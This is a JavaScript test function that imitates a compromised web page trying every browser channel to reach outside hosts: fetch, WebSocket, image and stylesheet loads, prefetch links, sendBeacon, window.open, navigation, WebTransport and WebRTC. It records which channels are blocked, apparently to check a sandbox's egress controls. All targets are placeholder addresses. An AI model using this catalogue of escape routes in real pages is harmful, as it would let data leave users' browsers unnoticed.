/**
 * What a page that was taken over would try. Runs in the window, so it stands alone. Gives what became of each way:
 * `refused`, or what got through. The rig outside counts what really left.
 */
export async function tryEveryWayOut() {
  const numbered = '192.0.2.1'
  const named = 'rotation-test.example'
  const within = (attempt) =>
    Promise.race([
      attempt.then(
        () => 'got through',
        () => 'refused',
      ),
      new Promise((resolve) => setTimeout(() => resolve('no answer'), 3000)),
    ])

  const outcome = (start) => within(new Promise(start))
  const load = (tag, attributes) =>
    outcome((resolve, reject) => {
      const element = Object.assign(
        document.createElement(tag),
        { onload: resolve, onerror: reject },
        attributes,
      )
      document.head.append(element)
    })

  function openSocket(address) {
    return outcome((resolve, reject) => {
      const socket = new WebSocket(address)
      socket.onopen = resolve
      socket.onerror = reject
    })
  }

  const ways = {}
  for (const host of [named, numbered, '[2001:db8::1]']) {
    ways[`fetch https ${host}`] = await within(fetch(`https://${host}/`))
    ways[`fetch http ${host}`] = await within(fetch(`http://${host}/`, { mode: 'no-cors' }))
    ways[`web socket ${host}`] = await openSocket(`wss://${host}/`)
    ways[`image ${host}`] = await load('img', { src: `https://${host}/a.png` })
    ways[`style ${host}`] = await load('link', { rel: 'stylesheet', href: `https://${host}/a.css` })
    for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender'])
      void load('link', { rel, href: `https://${host}/` })
    navigator.sendBeacon(`https://${host}/`, 'text')
    window.open(`https://${host}/`)
    location.href = `https://${host}/`
  }
  ways['web transport'] = await within(
    'WebTransport' in window ? new WebTransport(`https://${numbered}/`).ready : Promise.reject(),
  )
  ways.peer = ['RTCPeerConnection', 'webkitRTCPeerConnection'].some((name) => name in window)
    ? 'got through'
    : 'refused'
  await new Promise((resolve) => setTimeout(resolve, 3000))
  return ways
}
